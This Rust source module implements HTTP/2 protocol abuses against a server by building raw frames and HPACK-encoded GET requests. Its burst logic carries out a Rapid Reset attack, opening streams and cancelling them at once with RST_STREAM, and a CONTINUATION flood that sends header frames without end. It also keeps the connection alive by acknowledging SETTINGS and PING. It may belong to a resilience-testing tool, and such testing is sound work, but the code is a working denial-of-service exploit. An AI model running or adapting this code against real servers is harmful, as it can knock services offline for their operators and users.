//! Abuses of HTTP/2, frame by frame (RFC 9113): a library would keep to the rules.

use super::habit::{Habit, Volume, say};
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite};
use tokio::sync::mpsc;
use tokio::time::interval;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Identifiers of streams have 31 bits.
const LAST_STREAM: u32 = 0x7fff_fffe;

/// What the requests name.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Site {
    /// Host and port.
    pub authority: String,
    /// Path and query, at most 126 bytes.
    pub path: String,
    /// https.
    pub secure: bool,
}

/// Abuses a fresh connection until the other side ends it.
pub(super) async fn abuse<R, W>(from: R, to: W, habit: &Habit, every: Duration, site: &Site, volume: &Volume)
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
{
    let (answer, answers) = mpsc::channel(64);
    tokio::select! {
        () = listen(from, answer, volume) => {}
        _ = speak(to, answers, habit, every, site, volume) => {}
    }
}

async fn speak<W: AsyncWrite + Unpin>(
    mut to: W,
    mut answers: mpsc::Receiver<Vec<u8>>,
    habit: &Habit,
    every: Duration,
    site: &Site,
    volume: &Volume,
) -> Option<()> {
    let mut opening = PREFACE.to_vec();
    frame(&mut opening, SETTINGS, 0, 0, &[]);
    say(&mut to, &opening, volume).await?;
    // A client that does not acknowledge the server's settings would be dropped for that alone.
    say(&mut to, &answers.recv().await?, volume).await?;
    let mut beat = interval(every);
    let mut stream = 1_u32;
    if matches!(habit, Habit::Continuation(_)) {
        let mut begin = Vec::new();
        frame(&mut begin, HEADERS, END_STREAM, stream, &request(site));
        say(&mut to, &begin, volume).await?;
    }
    loop {
        tokio::select! {
            // Between the frames of one block of headers no other frame may come (RFC 9113, section 6.10).
            bytes = answers.recv(), if !matches!(habit, Habit::Continuation(_)) => say(&mut to, &bytes?, volume).await?,
            _ = beat.tick() => say(&mut to, &burst(habit, site, &mut stream)?, volume).await?,
        }
    }
}

/// What is sent at one interval; none when there is no stream left to open.
fn burst(habit: &Habit, site: &Site, stream: &mut u32) -> Option<Vec<u8>> {
    let mut burst = Vec::new();
    match habit {
        Habit::RapidReset(streams) => {
            for _ in 0..*streams {
                frame(&mut burst, HEADERS, END_STREAM | END_HEADERS, *stream, &request(site));
                frame(&mut burst, RST_STREAM, 0, *stream, &CANCEL);
                *stream = stream.checked_add(2).filter(|next| *next < LAST_STREAM)?;
            }
        }
        Habit::Continuation(frames) => {
            for _ in 0..*frames {
                frame(&mut burst, CONTINUATION, 0, *stream, &filler());
            }
        }
        Habit::Drip(_) | Habit::Sip(_) => return None,
    }
    Some(burst)
}

/// Acknowledges what must be acknowledged; returns when the other side says good-bye.
async fn listen<R: AsyncRead + Unpin>(mut from: R, answer: mpsc::Sender<Vec<u8>>, volume: &Volume) {
    loop {
        let mut head = [0_u8; 9];
        if from.read_exact(&mut head).await.is_err() {
            return;
        }
        let [a, b, c, kind, flags, ..] = head;
        let mut body = vec![0_u8; u32::from_be_bytes([0, a, b, c]) as usize];
        if from.read_exact(&mut body).await.is_err() {
            return;
        }
        volume.received(head.len() + body.len());
        let mut reply = Vec::new();
        match kind {
            SETTINGS if flags & ACK == 0 => frame(&mut reply, SETTINGS, ACK, 0, &[]),
            PING if flags & ACK == 0 => frame(&mut reply, PING, ACK, 0, &body),
            GOAWAY => return,
            _ => continue,
        }
        if answer.send(reply).await.is_err() {
            return;
        }
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, body: &[u8]) {
    let [_, length @ ..] = u32::try_from(body.len()).unwrap_or(u32::MAX).to_be_bytes();
    out.extend(length);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(body);
}

/// A GET in HPACK (RFC 7541) without compression: indexed fields, and literals with indexed names.
fn request(site: &Site) -> Vec<u8> {
    let mut block = vec![0x82, if site.secure { 0x87 } else { 0x86 }];
    for (name, value) in [(4_u8, &site.path), (1, &site.authority)] {
        let value = &value.as_bytes()[..value.len().min(126)];
        block.extend([name, u8::try_from(value.len()).unwrap_or(126)]);
        block.extend(value);
    }
    block
}

/// One more literal header field, 120 bytes of value.
fn filler() -> Vec<u8> {
    let mut field = vec![0, 6];
    field.extend(b"x-more");
    field.push(120);
    field.extend([b'a'; 120]);
    field
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_as_the_standard_has_them() {
        let mut out = Vec::new();
        frame(&mut out, RST_STREAM, 0, 5, &CANCEL);
        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
        let site = Site { authority: "a:1".into(), path: "/x".into(), secure: false };
        assert_eq!(request(&site), [0x82, 0x86, 4, 2, b'/', b'x', 1, 3, b'a', b':', b'1']);
        assert_eq!(filler().len(), 2 + 6 + 1 + 120);
    }
}
